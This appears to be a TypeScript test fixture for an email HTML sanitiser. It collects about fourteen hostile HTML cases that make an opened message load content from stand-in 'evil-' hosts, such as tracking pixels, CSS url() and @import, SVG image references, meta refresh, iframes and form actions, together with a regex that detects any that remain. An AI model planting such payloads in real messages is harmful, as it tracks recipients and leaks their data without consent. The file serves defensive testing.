/**
 * HTML that tries to load something when a message is opened, one case a way. Every remote
 * address is on a host starting `evil-`: shown or stored HTML must contain none. Links go to
 * `link.test` and must stay clickable.
 */
export const HOSTILE_HTML_CASES = [
  {
    name: 'inline style url()',
    html: `<p style="color:#123456;background-image:url('https://evil-style.test/open.gif')">Rates attached</p>`,
  },
  {
    name: 'inline style url() in a shorthand',
    html: '<div style="background:#fff url(https://evil-shorthand.test/b.gif) no-repeat">Hello</div>',
  },
  {
    name: 'inline style with a CSS escape',
    html: '<p style="background:u\\72l(https://evil-escape.test/e.gif)">Escaped</p>',
  },
  {
    name: 'inline style image-set() and list-style-image',
    html: `<ul style="list-style:square url(https://evil-list.test/l.gif)"><li style="background-image:image-set('https://evil-imageset.test/i.png' 1x)">One</li></ul>`,
  },
  {
    name: '<style> with url() and @import',
    html: `<style>@import url("https://evil-import.test/a.css"); @import 'https://evil-import2.test/b.css'; body{background:url(https://evil-stylebg.test/bg.gif)} @font-face{font-family:x;src:url(https://evil-font.test/f.woff)}</style><p>Body</p>`,
  },
  {
    name: 'srcset and <picture>',
    html: `<img srcset="https://evil-srcset.test/a.png 1x, https://evil-srcset.test/b.png 2x" alt="logo"><picture><source srcset="https://evil-source.test/s.webp"><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="p"></picture><p>Logo</p>`,
  },
  {
    name: 'SVG <image> and <use>',
    html: `<svg width="10" height="10"><image href="https://evil-svg.test/a.png"/><image xlink:href="https://evil-xlink.test/b.png"/><use href="https://evil-use.test/s.svg#x"/><feImage href="https://evil-feimage.test/f.png"/></svg><p>After the picture</p>`,
  },
  {
    name: '<link> stylesheet and prefetch',
    html: `<link rel="stylesheet" href="https://evil-link.test/a.css"><link rel="prefetch" href="https://evil-prefetch.test/p"><p>Linked</p>`,
  },
  {
    name: '<meta refresh> and <base>',
    html: `<meta http-equiv="refresh" content="0;url=https://evil-meta.test/"><base href="https://evil-base.test/"><p>Refresh</p>`,
  },
  {
    name: 'background= attributes',
    html: `<table background="https://evil-bgattr.test/t.gif"><tr><td background="https://evil-tdbg.test/c.gif">Cell</td></tr></table><div background="https://evil-divbg.test/d.gif">Div</div>`,
  },
  {
    name: 'Outlook conditional comments',
    html: `<!--[if mso]><v:rect><v:fill type="tile" src="https://evil-vml.test/v.png"/></v:rect><![endif]--><!--[if !mso]><!--><img src="https://evil-cond.test/c.gif" alt="c"><!--<![endif]--><p>Hi there</p>`,
  },
  {
    name: 'a remote <img> (a tracking pixel)',
    html: `<p>Hello</p><img src="https://evil-pixel.test/open.gif?id=42" width="1" height="1"><img src="//evil-relative.test/r.gif">`,
  },
  {
    name: 'media, frames and forms',
    html: `<video poster="https://evil-poster.test/p.png" src="https://evil-video.test/v.mp4"></video><audio src="https://evil-audio.test/a.mp3"></audio><iframe src="https://evil-frame.test/"></iframe><object data="https://evil-object.test/o"></object><embed src="https://evil-embed.test/e"><form action="https://evil-form.test/"><input type="image" src="https://evil-input.test/i.png"></form><p>Media</p>`,
  },
  {
    name: 'a link stays, opening safely',
    html: `<p><a href="https://link.test/brief" style="color:#0b65c2">the brief</a></p><p style="background:url(https://evil-linkstyle.test/x.gif)">x</p>`,
  },
] as const;

/** Every case in one message, as a hostile sender would write it. */
export const HOSTILE_HTML = `<html><head><title>Offer</title></head><body background="https://evil-body.test/b.gif">${HOSTILE_HTML_CASES.map((c) => c.html).join('\n')}</body></html>`;

/** A remote reference an opened message would load (links are not loaded by opening). */
export function remoteReferencesIn(html: string): string[] {
  return [...html.matchAll(/evil-[a-z0-9-]+\.test/gi)].map((m) => m[0]);
}
